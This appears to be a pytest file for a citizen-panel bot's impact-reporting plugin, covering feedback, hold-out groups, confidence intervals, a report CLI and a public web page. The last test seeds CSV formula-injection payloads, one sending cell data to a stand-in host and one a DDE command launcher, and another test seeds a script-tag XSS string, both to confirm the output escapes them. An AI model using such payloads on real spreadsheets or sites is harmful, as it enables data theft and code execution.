"""The impact loop (issue 13 parts 4-6): feedback replies, the hold-out, follow-up surveys,
the impact-loop figure, ``panelbot impact report`` and the public ``/impact`` page.

Real parts throughout: a real bot on a real SQLite file, the engine answering real
messages, the real web app over HTTP, the real command line in a subprocess.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from bot.app import Bot
from bot.config import dump_toml, load_settings
from bot.engine.waves import close_wave, launch
from plugins.impact_updates import decisions, loop, report, updates
from plugins.impact_updates.stats import newcombe, wilson
from tests.conftest import FIELDS, REPO, Chat, add_survey
from tests.webserver import serving

SURVEY = REPO / "tests" / "data" / "every-type.toml"
NO_SURVEY = "There is no survey open for you just now"
PHONE = re.compile(r"(?:\+44|\b0)7\d{3} ?\d{6}")  # a UK mobile number, either way written


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat(timespec="milliseconds")


async def people(bot: Bot, n: int, prefix: str = "p", *, menu: bool = False) -> list[int]:
    """``n`` people joined through the engine (``menu``: the panel asks for a language)."""
    chat = Chat(bot)
    for i in range(n):
        if menu:
            for text in ("Hello", "1", "yes", "1", "1"):
                await chat.say(f"sim:{prefix}{i}", text)
        else:
            await chat.join(f"sim:{prefix}{i}")
    rows = await bot.db.fetchall(
        "SELECT p.id, a.address FROM panellists p JOIN addresses a ON a.panellist_id = p.id"
    )
    by_address = {r["address"]: r["id"] for r in rows}
    return [by_address[f"{prefix}{i}"] for i in range(n)]


async def decision(bot: Bot, **fields: Any) -> int:
    values = {
        "title": "Longer phone hours at GP surgeries",
        "you_said": "Booking by phone at 8am was hard.",
        "we_did": "Phone lines now open 8am to 6:30pm.",
        "decided_by": "ICB Primary Care Committee",
        "owner": "Director of Primary Care",
        "decided_on": "2026-11-20",
        **fields,
    }
    return (await decisions.add_decision(bot, **values))["id"]


async def constructed_update(
    bot: Bot,
    decision_id: int,
    recipients: list[tuple[int, str, str, str | None]],
    *,
    holdout: float = 0.0,
    feedback: int = 1,
    sent_ago: timedelta = timedelta(hours=1),
) -> int:
    """An update already sent, with recipients (panellist, group, state, outbox status)."""
    sent = iso(datetime.now(UTC) - sent_ago)
    async with bot.db.transaction() as tx:
        result = await tx.execute(
            "INSERT INTO impact_updates (decision_id, audience, due_at, status, holdout_share, "
            "feedback, audience_size, started_at, finished_at, created_at, updated_at) "
            "VALUES (?, 'panel', ?, 'sent', ?, ?, ?, ?, ?, ?, ?)",
            (decision_id, sent, holdout, feedback, len(recipients), sent, sent, sent, sent),
        )
        update_id = int(result.lastrowid)
        for pid, grp, state, outbox_status in recipients:
            outbox_id = None
            if outbox_status is not None:
                row = await tx.execute(
                    "INSERT INTO outbox (idempotency_key, panellist_id, channel, address, text, "
                    "kind, priority, status, next_attempt_at, created_at, updated_at) VALUES "
                    "(?, ?, 'sim', 'x', 'update', 'impact_update', 5, ?, ?, ?, ?)",
                    (f"impact:{update_id}:{pid}", pid, outbox_status, sent, sent, sent),
                )
                outbox_id = row.lastrowid
            await tx.execute(
                "INSERT INTO impact_recipients (update_id, panellist_id, locale, grp, state, "
                "outbox_id, queued_at) VALUES (?, ?, 'en', ?, ?, ?, ?)",
                (update_id, pid, grp, state, outbox_id, sent if state == "queued" else None),
            )
    return update_id


async def next_wave_with(bot: Bot, completed: list[int]) -> int:
    """The every-type survey to everyone, ``completed`` marked as having finished it, closed."""
    await add_survey(bot, SURVEY)
    wave_id = await launch(bot, "every-type")
    async with bot.db.transaction() as tx:
        marks = ",".join("?" * len(completed))
        await tx.execute(
            f"UPDATE invitations SET status = 'completed' WHERE wave_id = ? "
            f"AND panellist_id IN ({marks})",
            (wave_id, *completed),
        )
    await close_wave(bot, wave_id)
    return wave_id


# -- the statistics ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("counts", "low", "high"),
    [
        # Newcombe (1998), Statistics in Medicine 17:873-890, table II, method 10.
        ((56, 70, 48, 80), 0.0524, 0.3339),
        ((9, 10, 3, 10), 0.1705, 0.8090),
        ((6, 7, 2, 7), 0.0582, 0.8062),
        ((5, 56, 0, 29), -0.0381, 0.1926),
        ((0, 10, 0, 20), -0.1611, 0.2775),
        ((10, 10, 0, 20), 0.6791, 1.0000),
    ],
)
def test_newcombe_interval_matches_the_published_values(
    counts: tuple[int, int, int, int], low: float, high: float
) -> None:
    d = newcombe(*counts)
    assert (round(d.low, 4), round(d.high, 4)) == (low, high)


def test_wilson_interval_by_hand() -> None:
    # 9/10: centre (0.9 + 1.9208/10) / 1.38415 = 0.78898; half 1.95996 *
    # sqrt(0.009 + 0.009604) / 1.38415 = 0.19317.
    low, high = wilson(9, 10)
    assert (round(low, 4), round(high, 4)) == (0.5958, 0.9821)
    with pytest.raises(ValueError):
        wilson(1, 0)


# -- feedback ---------------------------------------------------------------------------------


async def test_feedback_is_recorded_once_per_person_latest_answer_wins(bot: Bot) -> None:
    a, b, c, d, e = await people(bot, 5)
    chat = Chat(bot)
    decision_id = await decision(bot)
    asked = await constructed_update(
        bot,
        decision_id,
        [(a, "treatment", "queued", "delivered"), (b, "treatment", "queued", None)],
    )
    stale = await decision(bot, title="Older decision")
    await constructed_update(
        bot, stale, [(c, "treatment", "queued", "delivered")], sent_ago=timedelta(days=8)
    )
    silent = await decision(bot, title="No question asked")
    await constructed_update(bot, silent, [(e, "treatment", "queued", "delivered")], feedback=0)

    [first] = await chat.say("sim:p0", "1")
    assert "glad it was useful" in first
    [second] = await chat.say("sim:p0", "2.")
    assert "Thank you for telling us" in second
    [third] = await chat.say("sim:p1", "Yes")
    assert "glad it was useful" in third
    # Past the feedback window, not a recipient, or an update that asked nothing: the core.
    for address in ("sim:p2", "sim:p3", "sim:p4"):
        [reply] = await chat.say(address, "1")
        assert NO_SURVEY in reply
    # Anything else is not feedback.
    [other] = await chat.say("sim:p0", "when is the next survey?")
    assert NO_SURVEY in other

    rows = await bot.db.fetchall(
        "SELECT update_id, panellist_id, useful FROM impact_feedback ORDER BY panellist_id"
    )
    assert [tuple(r) for r in rows] == [(asked, a, 0), (asked, b, 1)]
    assert d not in {r["panellist_id"] for r in rows}
    [update] = (await _decision(bot, decision_id))["updates"]
    assert update["feedback"] == {"yes": 1, "no": 1, "n": 2, "useful_share": 0.5}


async def _decision(bot: Bot, decision_id: int) -> dict[str, Any]:
    return next(d for d in await report.register(bot) if d["id"] == decision_id)


async def test_feedback_words_of_the_panellists_language(settings: Any) -> None:
    bot = await Bot.create(settings)
    try:
        chat = Chat(bot)
        await chat.join("sim:w")
        async with bot.db.transaction() as tx:  # as if they had chosen Cymraeg
            await tx.execute("UPDATE panellists SET locale = 'cy'")
        row = await bot.db.fetchone("SELECT id, locale, status FROM panellists")
        assert (row["locale"], row["status"]) == ("cy", "active")
        await constructed_update(
            bot, await decision(bot), [(row["id"], "treatment", "queued", None)]
        )
        [reply] = await chat.say("sim:w", "Na")  # Welsh "no"
        assert reply.startswith("Diolch am ddweud wrthym")
        useful = await bot.db.fetchone("SELECT useful FROM impact_feedback")
        assert useful["useful"] == 0
    finally:
        await bot.stop()


# -- the impact-loop figure on a constructed history -----------------------------------------


async def test_observational_figure_on_a_constructed_history(bot: Bot) -> None:
    ids = await people(bot, 20)
    reached, failed, outside = ids[:10], ids[10:12], ids[12:]
    decision_id = await decision(bot)
    update_id = await constructed_update(
        bot,
        decision_id,
        [(p, "treatment", "queued", "delivered") for p in reached[:6]]
        + [(p, "treatment", "queued", "sent") for p in reached[6:9]]
        + [(reached[9], "treatment", "queued", None)]  # outbox row since pruned: sent
        + [(p, "treatment", "queued", "failed") for p in failed],
    )
    # Responded: 9 of the 10 reached, 3 of the 10 others (both failed, one outsider).
    wave_id = await next_wave_with(bot, reached[:9] + failed + outside[:1])

    entry = await _decision(bot, decision_id)
    [update] = entry["updates"]
    figure = update["impact_loop"]
    assert figure["design"] == "observational"
    assert figure["wave_id"] == wave_id and figure["provisional"] is False
    assert figure["received"] == {
        "label": "received the update",
        "invited": 10,
        "responded": 9,
        "rate": 0.9,
    }
    assert (figure["not_received"]["invited"], figure["not_received"]["responded"]) == (10, 3)
    assert round(figure["difference"], 4) == 0.6
    # Newcombe's table II: 9/10 - 3/10 -> 0.1705 to 0.8090.
    assert [round(x, 4) for x in figure["ci95"]] == [0.1705, 0.809]
    assert update["delivery"] == {
        "queued": 0,
        "sent": 4,
        "delivered": 6,
        "failed": 2,
        "waiting": 0,
        "skipped": 0,
        "cancelled": 0,
    }
    assert entry["panellists_told"] == 10
    assert update_id == update["id"]
    line = report.loop_line(figure)
    assert "observational" in line and "9/10" in line and "+17.1 to +80.9" in line


async def test_randomised_figure_compares_by_assignment(bot: Bot) -> None:
    ids = await people(bot, 20)
    treatment, holdout, outside = ids[:7], ids[7:14], ids[14:]
    decision_id = await decision(bot)
    await constructed_update(
        bot,
        decision_id,
        # One treatment message failed: still in the treatment group (by assignment).
        [(p, "treatment", "queued", "delivered") for p in treatment[:6]]
        + [(treatment[6], "treatment", "queued", "failed")]
        + [(p, "holdout", "waiting", None) for p in holdout],
        holdout=0.5,
    )
    await next_wave_with(bot, treatment[:6] + holdout[:2] + outside)
    [update] = (await _decision(bot, decision_id))["updates"]
    figure = update["impact_loop"]
    assert figure["design"] == "randomised (hold-out)"
    assert (figure["received"]["invited"], figure["received"]["responded"]) == (7, 6)
    assert (figure["not_received"]["invited"], figure["not_received"]["responded"]) == (7, 2)
    assert [round(x, 4) for x in figure["ci95"]] == [0.0582, 0.8062]  # Newcombe, table II
    assert update["delivery"]["waiting"] == 7


async def test_no_figure_before_a_wave_opens(bot: Bot) -> None:
    [a] = await people(bot, 1)
    decision_id = await decision(bot)
    await constructed_update(bot, decision_id, [(a, "treatment", "queued", "delivered")])
    [update] = (await _decision(bot, decision_id))["updates"]
    assert update["impact_loop"]["note"] == "no survey wave has opened since the update went out"
    assert "difference" not in update["impact_loop"]


# -- the hold-out and follow-up surveys, through the plugin's own sending ---------------------


async def impact_rows(bot: Bot, update_id: int) -> list[Any]:
    return await bot.db.fetchall(
        "SELECT panellist_id FROM outbox WHERE idempotency_key LIKE ?", (f"impact:{update_id}:%",)
    )


async def test_holdout_gets_the_update_once_after_the_next_wave_closes(
    settings: Any,
) -> None:
    bot = await Bot.create(settings)
    try:
        ids = await people(bot, 10)
        decision_id = await decision(bot)
        update, _ = await updates.schedule(
            bot, decision_id, at="now", audience="panel", holdout="30%"
        )
        update_id = update["id"]
        assert await updates.run_update(bot, update_id) == 7
        groups = await bot.db.fetchall(
            "SELECT panellist_id, grp, state FROM impact_recipients WHERE update_id = ?",
            (update_id,),
        )
        held = sorted(r["panellist_id"] for r in groups if r["grp"] == "holdout")
        assert len(held) == 3 and all(
            r["state"] == "waiting" for r in groups if r["grp"] == "holdout"
        )
        assert len(await impact_rows(bot, update_id)) == 7
        # No wave yet, then a wave still open: the hold-out waits.
        assert await loop.release_due_holdouts(bot) == []
        await add_survey(bot, SURVEY)
        wave_id = await launch(bot, "every-type")
        assert await loop.release_due_holdouts(bot) == []
        assert len(await impact_rows(bot, update_id)) == 7
        await close_wave(bot, wave_id)
        assert await loop.release_due_holdouts(bot) == [update_id]
        assert await loop.release_due_holdouts(bot) == []
        await loop.tick(bot)
    finally:
        await bot.stop()
    # A restart runs the job again: still one message per person.
    bot = await Bot.create(settings)
    try:
        await loop.tick(bot)
        rows = await impact_rows(bot, update_id)
        assert sorted(r["panellist_id"] for r in rows) == sorted(ids)
        released = await bot.db.fetchone(
            "SELECT holdout_released_at FROM impact_updates WHERE id = ?", (update_id,)
        )
        assert released["holdout_released_at"] is not None
        states = await bot.db.fetchall(
            "SELECT DISTINCT state FROM impact_recipients WHERE update_id = ?", (update_id,)
        )
        assert [r["state"] for r in states] == ["queued"]
        # The hold-out was chosen by the update's id: the same three again.
        again = updates._holdout_ids(update_id, sorted(ids), 0.3)
        assert sorted(again) == held
    finally:
        await bot.stop()


async def test_follow_up_wave_goes_to_the_treatment_group_once(bot: Bot) -> None:
    ids = await people(bot, 10)
    await add_survey(bot, SURVEY)
    decision_id = await decision(bot)
    update, _ = await updates.schedule(
        bot, decision_id, at="now", audience="panel", holdout="20%", follow_up="every-type"
    )
    update_id = update["id"]
    await updates.run_update(bot, update_id)
    # Not before follow_up_after (1 day by default)...
    assert await loop.open_due_follow_ups(bot) == []
    later = datetime.now(UTC) + timedelta(days=1, minutes=1)
    [wave_id] = await loop.open_due_follow_ups(bot, now=later)
    assert await loop.open_due_follow_ups(bot, now=later) == []
    invited = await bot.db.fetchall(
        "SELECT panellist_id FROM invitations WHERE wave_id = ?", (wave_id,)
    )
    treatment = await bot.db.fetchall(
        "SELECT panellist_id FROM impact_recipients WHERE update_id = ? AND grp = 'treatment'",
        (update_id,),
    )
    assert sorted(r[0] for r in invited) == sorted(r[0] for r in treatment)
    assert len(invited) == 8 and set(r[0] for r in invited) < set(ids)
    links = await bot.db.fetchall(
        "SELECT survey_id, role FROM impact_decision_surveys WHERE decision_id = ?",
        (decision_id,),
    )
    assert [tuple(r) for r in links] == [("every-type", "follow_up")]
    # The follow-up wave is not "the next wave" of the impact-loop figure.
    [entry] = [d for d in await report.register(bot) if d["id"] == decision_id]
    assert entry["updates"][0]["impact_loop"].get("wave_id") is None
    # Its completion and headline are in the register.
    chat = Chat(bot)
    first = await bot.db.fetchone(
        "SELECT a.address FROM addresses a WHERE a.panellist_id = ?", (invited[0][0],)
    )
    for answer in ("3", "1", "5", "yes", "2", "fine"):
        await chat.say(f"sim:{first['address']}", answer)
    [entry] = [d for d in await report.register(bot) if d["id"] == decision_id]
    follow = entry["updates"][0]["follow_up"]
    assert (follow["invited"], follow["completed"]) == (8, 1)
    assert follow["headline"] == "How easy was it?: Hard 100% (n=1)"
    assert entry["follow_up_surveys"] == ["every-type"]


# -- impact report: formats, and no personal data ---------------------------------------------


def write_config(tmp_path: Path, **impact: Any) -> Path:
    config = tmp_path / "panelbot.toml"
    config.write_text(
        dump_toml(
            {
                "bot": {
                    "name": "Report Panel",
                    "database": "panel.db",
                    "quiet_hours": False,
                    "locales": ["en", "cy", "ur"],
                },
                "panel": {"fields": FIELDS},
                "channels": {"simulator": {"enabled": True}},
                "plugins": {"impact_updates": impact},
            }
        )
    )
    return config


async def seeded_history(config: Path) -> dict[str, Any]:
    """A small history on the config's database: a decision, its update, feedback, a wave."""
    bot = await Bot.create(load_settings(config))
    try:
        ids = await people(bot, 6, prefix="+44740010010", menu=True)
        await Chat(bot).say("sim:+447400100100", "hello")  # a phone-like address, as SMS would
        decision_id = await decision(
            bot, title='Shorter waits <script>alert("x")</script>', link="https://example.org/d"
        )
        await decision(bot, title="Still being discussed", status="proposed")
        async with bot.db.transaction() as tx:  # a finding quoted with the decision
            await tx.execute(
                "INSERT INTO impact_findings (decision_id, survey_id, question_id, option_id, "
                "option_text, count, n, share, quote, computed_at) VALUES (?, 'every-type', "
                "'ease', 'hard', 'Hard', 31, 50, 0.62, '62% of you said \"Hard\" (n=50)', ?)",
                (decision_id, iso(datetime.now(UTC))),
            )
        update_id = await constructed_update(
            bot,
            decision_id,
            [(p, "treatment", "queued", "delivered") for p in ids[:4]],
        )
        await Chat(bot).say("sim:+447400100100", "1")
        await next_wave_with(bot, ids[:3])
        names = await bot.db.fetchall("SELECT address FROM addresses")
        return {"update_id": update_id, "addresses": [r["address"] for r in names]}
    finally:
        await bot.stop()


def run_cli(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", "-c", str(config), *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


class Page(HTMLParser):
    """What an accessibility-minded reader checks: lang, landmarks, headings, assets."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.lang: str | None = None
        self.dir: str | None = None
        self.external: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        values = dict(attrs)
        if tag == "html":
            self.lang, self.dir = values.get("lang"), values.get("dir")
        if tag in ("script", "img", "link", "iframe") or values.get("src"):
            self.external.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


async def test_impact_report_formats_parse_and_name_nobody(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    seeded = await seeded_history(config)

    as_json = run_cli(config, "impact", "report", "--format", "json")
    assert as_json.returncode == 0, as_json.stderr
    data = json.loads(as_json.stdout)
    assert "Newcombe" in data["method"]
    first = data["decisions"][0]
    assert first["decided_by"] == "ICB Primary Care Committee"
    [update] = first["updates"]
    assert update["feedback"]["n"] == 1 and update["delivery"]["delivered"] == 4
    assert update["impact_loop"]["received"]["invited"] == 4

    as_csv = run_cli(config, "impact", "report", "--format", "csv")
    assert as_csv.returncode == 0, as_csv.stderr
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert len(rows) == 2  # the decision with its update; the proposed one on its own
    assert rows[0]["loop_design"] == "observational" and rows[0]["delivered"] == "4"
    assert rows[0]["received_responded"] == "3" and rows[0]["not_received_invited"] == "2"

    out = tmp_path / "board" / "register.html"
    out.parent.mkdir()
    as_html = run_cli(config, "impact", "report", "--format", "html", "--output", str(out))
    assert as_html.returncode == 0, as_html.stderr
    html = out.read_text()
    page = Page()
    page.feed(html)
    assert page.lang == "en"
    assert {"header", "main", "footer", "h1", "h2", "table", "caption"} <= set(page.tags)
    assert page.external == []  # self-contained: no scripts, images or stylesheets to fetch
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "https://example.org/d" in html

    as_table = run_cli(config, "impact", "report")
    assert as_table.returncode == 0 and "impact loop: observational" in as_table.stdout

    for text in (as_json.stdout, as_csv.stdout, html, as_table.stdout):
        for address in seeded["addresses"]:
            assert address not in text
        assert not PHONE.search(text), PHONE.search(text)

    bad = run_cli(config, "impact", "report", "--output", str(tmp_path / "no" / "such" / "f"))
    assert bad.returncode == 1 and "cannot write" in bad.stderr and "Traceback" not in bad.stderr


def test_impact_report_never_creates_a_database(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    result = run_cli(config, "impact", "report")
    assert result.returncode == 1 and "no database at" in result.stderr
    assert not (tmp_path / "panel.db").exists()
    (tmp_path / "fresh").mkdir()
    fresh = write_config(tmp_path / "fresh")
    assert run_cli(fresh, "db", "upgrade").returncode == 0
    empty = run_cli(fresh, "impact", "report")
    assert empty.returncode == 0 and "No decisions in the register yet" in empty.stdout
    as_json = run_cli(fresh, "impact", "report", "--format", "json")
    assert json.loads(as_json.stdout)["decisions"] == []


# -- the public page --------------------------------------------------------------------------


async def test_public_page_is_off_by_default(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    await seeded_history(config)
    bot = await Bot.create(load_settings(config))
    try:
        async with serving(bot, start_bot=False) as base, httpx.AsyncClient() as client:
            response = await client.get(f"{base}/impact")
        assert response.status_code == 404
    finally:
        await bot.stop()


async def test_public_page_in_each_language_with_no_personal_data(tmp_path: Path) -> None:
    config = write_config(tmp_path, public_page=True)
    seeded = await seeded_history(config)
    bot = await Bot.create(load_settings(config))
    try:
        async with serving(bot, start_bot=False) as base, httpx.AsyncClient() as client:
            english = await client.get(f"{base}/impact")
            welsh = await client.get(
                f"{base}/impact", headers={"accept-language": "cy-GB,en;q=0.5"}
            )
            urdu = await client.get(f"{base}/impact?lang=ur")
            unknown = await client.get(f"{base}/impact?lang=xx", headers={"accept-language": "!!"})
            post = await client.post(f"{base}/impact")
    finally:
        await bot.stop()
    assert english.status_code == 200
    assert english.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in english.headers["content-security-policy"]
    assert english.headers["x-content-type-options"] == "nosniff"
    page = Page()
    page.feed(english.text)
    assert (page.lang, page.dir) == ("en", "ltr")
    assert {"header", "main", "footer", "nav", "h1", "h2"} <= set(page.tags)
    assert page.external == []
    assert "You said, we did" in english.text
    assert "&lt;script&gt;" in english.text and "<script>" not in english.text
    assert "Still being discussed" not in english.text  # proposed: not public
    assert re.search(r"Panellists told</dt><dd>4<", english.text)
    assert 'href="?lang=cy"' in english.text and 'href="?lang=ur"' in english.text

    assert welsh.headers["content-language"] == "cy"
    assert "62% of you said “Hard” (n=50)" in english.text
    assert "Dywedodd 62% ohonoch chi “Hard” (n=50)" in welsh.text
    assert 'lang="cy"' in welsh.text and "Dywedoch chi, gwnaethom ni" in welsh.text
    urdu_page = Page()
    urdu_page.feed(urdu.text)
    assert (urdu_page.lang, urdu_page.dir) == ("ur", "rtl")
    assert unknown.status_code == 200 and 'lang="en"' in unknown.text
    assert post.status_code == 405

    for response in (english, welsh, urdu):
        for address in seeded["addresses"]:
            assert address not in response.text
        assert not PHONE.search(response.text)


async def test_the_loop_job_is_registered_when_the_bot_starts(settings: Any) -> None:
    bot = await Bot.create(settings)
    try:
        await bot.start()
        job = bot.scheduler.aps.get_job(loop.JOB_ID)
        assert job is not None and job.func is loop.tick
        assert job.trigger.interval == timedelta(seconds=loop.TICK_SECONDS)
    finally:
        await bot.stop()


async def test_open_wave_for_invites_exactly_the_active_people_named(bot: Bot) -> None:
    from bot.plugin_api import open_wave_for

    a, b, c, d = await people(bot, 4)
    await Chat(bot).say("sim:p1", "STOP")  # b opts out: never invited
    await add_survey(bot, SURVEY)
    linked: list[int] = []

    async def link(tx: Any, wave_id: int) -> None:
        linked.append(wave_id)

    wave_id, invited = await open_wave_for(bot, "every-type", [a, b, c, a], linked=link)
    rows = await bot.db.fetchall(
        "SELECT panellist_id FROM invitations WHERE wave_id = ?", (wave_id,)
    )
    assert (invited, sorted(r[0] for r in rows)) == (2, sorted([a, c]))
    assert linked == [wave_id] and d not in [r[0] for r in rows]
    wave = await bot.db.fetchone("SELECT status FROM waves WHERE id = ?", (wave_id,))
    assert wave["status"] == "open"
    with pytest.raises(ValueError, match="no survey 'nope'"):
        await open_wave_for(bot, "nope", [a])


async def test_impact_report_csv_shows_formulas_as_text(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    bot = await Bot.create(load_settings(config))
    try:
        await decision(
            bot,
            title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            you_said="@SUM(1+1)",
            we_did="+cmd|' /C calc'!A0",
            owner="-2+3",
        )
    finally:
        await bot.stop()
    as_csv = run_cli(config, "impact", "report", "--format", "csv")
    assert as_csv.returncode == 0, as_csv.stderr
    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["you_said"] == "'@SUM(1+1)"
    assert row["we_did"] == "'+cmd|' /C calc'!A0"
    assert row["owner"] == "'-2+3"
    assert row["decision_id"] == "1"  # numbers stay numbers
